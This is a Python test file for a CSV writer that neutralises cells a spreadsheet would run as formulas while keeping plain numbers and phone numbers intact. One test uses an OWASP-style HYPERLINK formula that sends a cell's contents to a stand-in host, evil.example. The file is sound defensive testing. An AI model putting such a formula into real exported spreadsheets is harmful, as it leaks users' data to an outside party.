"""The one CSV writer: no cell a spreadsheet would run as a formula, numbers and E.164 numbers kept."""

from __future__ import annotations

import csv
import io
import re

from hypothesis import given
from hypothesis import strategies as st

from orchestrator.domain.csv_safe import FORMULA_STARTS, restore_cell, safe_cell, write_csv

PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
#: text that often starts with a formula character, plus anything at all
cells = st.one_of(
    st.text(),
    st.builds(lambda c, rest: c + rest, st.sampled_from([*FORMULA_STARTS, "'", " "]), st.text()),
    st.integers().map(str), st.floats(allow_nan=False, allow_infinity=False).map(str),
    st.from_regex(r"\+[1-9][0-9]{6,14}", fullmatch=True),
)


def written(header: list[str], rows: list[list[str]]) -> list[list[str]]:
    out = io.StringIO(newline="")
    assert write_csv(out, header, rows) == len(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@given(st.lists(cells, min_size=1, max_size=4), st.lists(st.lists(cells, min_size=4, max_size=4), max_size=5))
def test_no_written_cell_starts_a_formula_unless_it_is_a_plain_number(header: list[str],
                                                                      rows: list[list[str]]) -> None:
    back = written(header, [r[:len(header)] for r in rows])
    for row in back:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell


@given(cells)
def test_safe_cell_is_undone_by_restore_cell_and_numbers_are_untouched(value: str) -> None:
    assert restore_cell(safe_cell(value)) == value or (value.startswith("'") and value[1:].startswith(FORMULA_STARTS))
    if PLAIN_NUMBER.fullmatch(value):
        assert safe_cell(value) == value


def test_the_owasp_examples_and_the_values_that_stay() -> None:
    assert safe_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")').startswith("'=")
    assert [safe_cell(v) for v in ("+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1")] == [
        "'+1+2", "'-2+3", "'@SUM(A1:A2)", "'\tcmd", "'\r=1"]
    assert [safe_cell(v) for v in ("-3.5", "+33612345678", "42", "1e5", "", None, 0)] == [
        "-3.5", "+33612345678", "42", "1e5", "", "", "0"]


def test_rows_by_name_fill_missing_cells_and_refuse_unknown_names() -> None:
    out = io.StringIO()
    write_csv(out, ["a", "b"], [{"b": "=x"}], lineterminator="\n")
    assert out.getvalue() == "a,b\n,'=x\n"
    try:
        write_csv(io.StringIO(), ["a"], [{"c": 1}])
    except ValueError as exc:
        assert "c" in str(exc)
    else:
        raise AssertionError("an unknown field was written")
